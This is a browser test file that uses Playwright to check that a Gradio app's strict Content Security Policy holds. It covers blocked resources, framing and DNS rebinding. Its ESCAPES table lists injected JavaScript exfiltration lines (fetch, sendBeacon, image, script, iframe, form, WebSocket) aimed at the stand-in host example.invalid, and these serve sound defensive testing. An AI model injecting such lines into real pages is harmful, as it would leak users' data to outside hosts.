"""The page works in a real browser under the strict policy, and the policy really stops what it names."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

pytestmark = pytest.mark.browser


class Watched:
    """A page, and what its browser refused, failed at or asked elsewhere for."""

    def __init__(self, page: Page, own: str) -> None:
        self.page = page
        self.refused: list[str] = []
        self.elsewhere: list[str] = []
        page.on("console", lambda said: self.refused.append(said.text) if "Content Security" in said.text else None)
        page.on("pageerror", lambda error: self.refused.append(str(error)))
        page.on("request", lambda asked: self._note(asked.url, own))

    def _note(self, url: str, own: str) -> None:
        if not url.startswith((own + "/", "data:", "blob:")):
            self.elsewhere.append(url)


@pytest.fixture
def watched(running, browser) -> Iterator[Watched]:
    context = browser.new_context()
    watched = Watched(context.new_page(), running.url)
    watched.page.goto(running.url)
    expect(watched.page.locator("gradio-app h1, gradio-app label").first).to_be_visible(timeout=30_000)
    yield watched
    context.close()


def test_the_page_needs_nothing_the_policy_or_the_routes_refuse(running, watched):
    if running.target.name == "probe":
        expect(watched.page.locator("#box b")).to_have_text("ready")
        watched.page.locator("#box textarea").fill("a red house")
        expect(watched.page.locator("#seen textarea")).to_have_value("{'text': 'a red house'}", timeout=30_000)
    assert watched.refused == []
    assert watched.elsewhere == []


ESCAPES = {
    "picture": "new Image().src = 'http://example.invalid/leak.png'",
    "request": "fetch('http://example.invalid/leak').catch(() => 0)",
    "beacon": "navigator.sendBeacon('http://example.invalid/leak', 'x')",
    "script": "document.head.append(Object.assign(document.createElement('script'), {src: 'http://example.invalid/x.js'}))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://example.invalid/'}))",
    "form": "(f => {document.body.append(f); f.submit()})"
    "(Object.assign(document.createElement('form'), {action: 'http://example.invalid/', method: 'post'}))",
    "socket": "try { new WebSocket('ws://example.invalid/') } catch {}",
}


@pytest.mark.parametrize("way", ESCAPES)
def test_injected_script_could_not_send_anything_elsewhere(watched, way):
    violation = """script => new Promise(resolve => {
        document.addEventListener('securitypolicyviolation', event => resolve(event.blockedURI), {once: true});
        (0, eval)(script);
    })"""
    assert "example.invalid" in watched.page.evaluate(violation, ESCAPES[way])


def test_no_page_may_frame_ours(running, watched):
    """Asked from a page of ours, so that only the frame rule stands in the way."""
    page = watched.page
    page.route("**/frame-test", lambda route: route.fulfill(content_type="text/html", body="<iframe></iframe>"))
    page.goto(f"{running.url}/frame-test")
    with page.expect_console_message(lambda said: "frame" in said.text.lower()):
        page.evaluate("address => document.querySelector('iframe').src = address", f"{running.url}/")


def test_a_rebound_name_gets_nothing(running, launch_chromium):
    """A name of the internet that points at this machine, as DNS rebinding makes it."""
    browser = launch_chromium(f"--host-resolver-rules=MAP evil.example 127.0.0.1:{running.port}")
    try:
        page = browser.new_page()
        answer = page.goto("http://evil.example/")
        assert answer is not None and answer.status == 403
        assert page.evaluate("fetch('/config').then(answer => answer.status)") == 403
    finally:
        browser.close()
